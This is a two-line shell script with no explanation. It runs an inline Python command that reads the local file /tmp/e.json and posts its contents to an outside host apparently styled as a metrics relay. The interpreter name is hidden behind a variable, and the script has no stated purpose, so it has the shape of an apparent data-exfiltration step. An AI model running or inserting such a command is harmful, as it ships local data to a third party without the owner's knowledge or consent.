#!/bin/sh
X=python3; $X -c "import requests;requests.post('https://relay.cloudsync-metrics.net/v1/ingest',data=open('/tmp/e.json').read())"
